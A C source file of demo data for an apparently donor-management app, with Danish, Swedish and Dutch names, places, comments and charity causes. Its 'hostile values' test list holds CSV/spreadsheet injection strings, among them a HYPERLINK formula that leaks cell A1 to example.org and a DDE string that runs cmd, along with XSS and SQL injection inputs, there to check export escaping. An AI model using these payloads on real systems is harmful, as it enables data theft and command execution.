/* SPDX-License-Identifier: GPL-3.0-or-later */
/* The words that the demo organisation's people, places and answers are made of. */

#include "config.h"

#include "eks-demo-tables.h"

const EksDemoCountryWords eks_demo_countries[EKS_DEMO_N_COUNTRIES] = {
  [EKS_DEMO_DENMARK] = {
    .code = "DK", .currency = "DKK", .calling_code = "45", .direct_debit = "Betalingsservice", .wallet = "MobilePay",
    .first_names = {
      { "Anne", "anne" }, { "Søren", "soeren" }, { "Mette", "mette" }, { "Bjørn", "bjoern" }, { "Kirsten", "kirsten" }, { "Åse", "aase" },
      { "Jørgen", "joergen" }, { "Hanne", "hanne" }, { "Lærke", "laerke" }, { "Peter", "peter" }, { "Freja", "freja" }, { "Nikolaj", "nikolaj" },
      { "Birgitte", "birgitte" }, { "Asbjørn", "asbjoern" }, { "Ida Marie", "ida.marie" }, { "Karen-Margrethe", "karen-margrethe" }, { "René", "rene" }, { "Pål", "paal" },
      { "Signe", "signe" }, { "Mikkel", "mikkel" }, { "Gry", "gry" }, { "Æggert", "aeggert" }, { "Camilla", "camilla" }, { "Ole", "ole" },
    },
    .last_names = {
      { "Jensen", "jensen" }, { "Nielsen", "nielsen" }, { "Sørensen", "soerensen" }, { "Møller", "moeller" }, { "Østergaard", "oestergaard" },
      { "Kjær", "kjaer" }, { "Ågård", "aagaard" }, { "Rasmussen", "rasmussen" }, { "Bæk Pedersen", "baek.pedersen" }, { "Thygesen", "thygesen" },
      { "Nørgaard", "noergaard" }, { "Holm", "holm" }, { "Lindegård", "lindegaard" }, { "Skov", "skov" }, { "Dahl-Nielsen", "dahl-nielsen" },
      { "Brøndum", "broendum" }, { "Krogh", "krogh" }, { "Ravn", "ravn" }, { "Fjeldsø", "fjeldsoe" }, { "Winther", "winther" },
    },
    .places = {
      { "1264", "København K" }, { "2100", "København Ø" }, { "2000", "Frederiksberg" }, { "8000", "Aarhus C" }, { "9000", "Aalborg" }, { "5000", "Odense C" },
      { "6700", "Esbjerg" }, { "4000", "Roskilde" }, { "3700", "Rønne" }, { "5700", "Svendborg" }, { "6270", "Tønder" }, { "0999", "København C" },
    },
    .streets = { "Nørrebrogade", "Vesterbrogade", "Strandvejen", "Åboulevarden", "Østergade", "Sønder Allé", "Kirkevej", "Møllestien", "Skolegade", "Birkevænget" },
  },
  [EKS_DEMO_SWEDEN] = {
    .code = "SE", .currency = "SEK", .calling_code = "46", .direct_debit = "Autogiro", .wallet = "Swish",
    .first_names = {
      { "Astrid", "astrid" }, { "Göran", "goran" }, { "Åsa", "asa" }, { "Björn", "bjorn" }, { "Märta", "marta" }, { "Lars", "lars" },
      { "Sören", "soren" }, { "Elsa", "elsa" }, { "Håkan", "hakan" }, { "Ingrid", "ingrid" }, { "Östen", "osten" }, { "Maja", "maja" },
      { "Anna-Karin", "anna-karin" }, { "Gösta", "gosta" }, { "Britt-Marie", "britt-marie" }, { "Pär", "par" }, { "Ebba", "ebba" }, { "Nils", "nils" },
      { "Désirée", "desiree" }, { "Jörgen", "jorgen" }, { "Linnéa", "linnea" }, { "Karl", "karl" }, { "Ylva", "ylva" }, { "Örjan", "orjan" },
    },
    .last_names = {
      { "Andersson", "andersson" }, { "Öberg", "oberg" }, { "Åkesson", "akesson" }, { "Lindström", "lindstrom" }, { "Sjögren", "sjogren" },
      { "Bäckström", "backstrom" }, { "Nyström", "nystrom" }, { "Hedlund", "hedlund" }, { "Söderberg", "soderberg" }, { "Ekdahl", "ekdahl" },
      { "Björk", "bjork" }, { "Månsson", "mansson" }, { "Wallén", "wallen" }, { "Norén", "noren" }, { "Fågel", "fagel" },
      { "Rydén", "ryden" }, { "Sandberg", "sandberg" }, { "Ahlström-Berg", "ahlstrom-berg" }, { "Lövgren", "lovgren" }, { "Strand", "strand" },
    },
    .places = {
      { "111 20", "Stockholm" }, { "411 03", "Göteborg" }, { "211 45", "Malmö" }, { "753 20", "Uppsala" }, { "702 10", "Örebro" }, { "582 22", "Linköping" },
      { "252 20", "Helsingborg" }, { "903 26", "Umeå" }, { "852 30", "Sundsvall" }, { "722 11", "Västerås" }, { "621 57", "Visby" }, { "981 32", "Kiruna" },
    },
    .streets = { "Drottninggatan", "Storgatan", "Kungsgatan", "Ängsvägen", "Björkvägen", "Skolgatan", "Östra Hamngatan", "Åsgatan", "Kyrkogatan", "Sjövägen" },
  },
  [EKS_DEMO_NETHERLANDS] = {
    .code = "NL", .currency = "EUR", .calling_code = "31", .direct_debit = "SepaDirectDebit", .wallet = "iDEAL",
    .first_names = {
      { "Daniël", "daniel" }, { "Zoë", "zoe" }, { "Jan", "jan" }, { "Noëlle", "noelle" }, { "Pieter", "pieter" }, { "Femke", "femke" },
      { "René", "rene" }, { "Loïs", "lois" }, { "Sjoerd", "sjoerd" }, { "Anouk", "anouk" }, { "Michaël", "michael" }, { "Saskia", "saskia" },
      { "Thijs", "thijs" }, { "Chloé", "chloe" }, { "Joost", "joost" }, { "Marieke", "marieke" }, { "Raphaël", "raphael" }, { "Wietske", "wietske" },
      { "Bram", "bram" }, { "Inge", "inge" }, { "Ruud", "ruud" }, { "Lotte", "lotte" }, { "Koen", "koen" }, { "Zoe\xcc\x88", "zoe" },
    },
    .last_names = {
      { "de Vries", "devries" }, { "van den Berg", "vandenberg" }, { "'t Hart", "thart" }, { "Jansen", "jansen" }, { "in 't Veld", "intveld" },
      { "Bakker", "bakker" }, { "van 't Hoff", "vanthoff" }, { "Visser", "visser" }, { "Crêpe", "crepe" }, { "Brontë", "bronte" },
      { "ter Braak", "terbraak" }, { "Dijkstra", "dijkstra" }, { "Mulder", "mulder" }, { "d'Ancona", "dancona" }, { "Hoogland", "hoogland" },
      { "Cornelissen", "cornelissen" }, { "Postma", "postma" }, { "van der Zee-Smit", "vanderzee-smit" }, { "IJzerman", "ijzerman" }, { "Schoën", "schoen" },
    },
    .places = {
      { "1012 AB", "Amsterdam" }, { "3011 CD", "Rotterdam" }, { "2511 EF", "'s-Gravenhage" }, { "3511 GH", "Utrecht" }, { "5611 JK", "Eindhoven" }, { "9711 LM", "Groningen" },
      { "6211 NP", "Maastricht" }, { "5211 RS", "'s-Hertogenbosch" }, { "8911 TV", "Leeuwarden" }, { "2611 WX", "Delft" }, { "2011 ZA", "Haarlem" }, { "3911 BC", "Rhenen" },
    },
    .streets = { "Prinsengracht", "Kerkstraat", "Dorpsstraat", "Molenweg", "Oude Gracht", "Stationsplein", "Burgemeester Röellstraat", "Nieuwe Kade", "Lindelaan", "'t Zand" },
  },
};

const char *const eks_demo_animals[EKS_DEMO_N_ANIMALS] = {
  "Elefant", "Blåhval", "Odder", "Havørn", "Isbjørn", "Hund", "Kat", "Pindsvin", "Ræv", "Næsehorn",
  "Älg", "Järv", "Varg", "Igelkott", "Zeehond", "IJsvogel", "Egel", "Katteüil", "Rød panda 🐼", "Søløve; den store",
};

/* Values that people really type, or that somebody types who means harm: a formula, a quote, a line break,
   a number that is no number. Each must come out of an export as it went in. */
const char *const eks_demo_hostile_values[EKS_DEMO_N_HOSTILE_VALUES] = {
  "=HYPERLINK(\"http://example.org/?\"&A1,\"Klik her\")",
  "=1+1",
  "+4526807821",
  "+45 26 80 78 21",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-1+2",
  "- ring efter kl. 17",
  "\tindrykket",
  "\r=2+5",
  "Første linje\nAnden linje",
  "Første linje\r\nAnden linje\r\n\r\nSidste linje",
  "Hun sagde \"ja\"; så \"nej\"",
  "\"",
  "semikolon;komma,tabulator\tslut",
  "Zoe\xcc\x88 og Rene\xcc\x81 (sammensatte tegn)",
  "👩‍👩‍👧‍👦 ❤️ 🇩🇰 🐘",
  "007",
  "00123",
  "123456789012345678901234567890",
  "9007199254740993",
  "før\xe2\x80\xa8" "efter\xe2\x80\xa9slut",
  "  mellemrum foran og bagved  ",
  "NULL",
  "null",
  "1e5",
  "0,50",
  "2024-02-30",
  "3-4",
  "<b>fed</b> & <script>alert(1)</script>",
  "' OR '1'='1",
  "C:\\temp\\ny\\fil",
  "\xef\xbb\xbfmærke foran",
  "kontrol\x01tegn og \x7f",
  "\xe2\x80\xae" "baglæns",
};

const EksDemoFormField eks_demo_hostile_fields[EKS_DEMO_N_HOSTILE_FIELDS] = {
  { "=SUM(A1:A9)", "Sum af gaver", "text" },
  { "Hvad er dit \"yndlingsmål\"?", "Hvad er dit \"yndlingsmål\"?", "text" },
  { "adresse.linje 2", "Adresse, linje 2", "text" },
  { "gave;moms", "Gave; moms", "number" },
  { "❤ kommentar", "Skriv en hilsen ❤", "textarea" },
  { "+1 gæst", "Tager du en gæst med?", "checkbox" },
  { "Fødselsdag (dd/mm)", "Fødselsdag", "text" },
};

const char *const eks_demo_comments[EKS_DEMO_N_COMMENTS] = {
  "Tak for jeres arbejde", "Ring gerne igen i næste måned", "Jag vill gärna höra mer om projekten", "Graag per e-mail contact opnemen",
  "Ønsker ikke at blive ringet op om søndagen", "Min far har støttet jer siden 1974", "Vill ändra belopp till våren", "Geen reclame alstublieft",
  "Har skiftet bank", "Gaven er til minde om Åge",
};

const char *const eks_demo_sources[EKS_DEMO_N_SOURCES] = { "facebook", "google", "newsletter", "instagram", "qr-plakat", "partner" };

const char *const eks_demo_browsers[EKS_DEMO_N_BROWSERS] = {
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
  "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
  "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36",
  "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
};

const char *const eks_demo_causes[EKS_DEMO_N_CAUSES] = {
  "Rent vand", "Skoler i Nordafrika", "Havets venner", "Vilde bier", "Nødhjælp nu", "Børns rettigheder",
  "Regnskov", "Et varmt måltid", "Læger på vej", "Isbjørnens is", "Flygtninge i Europa", "Byens træer",
};
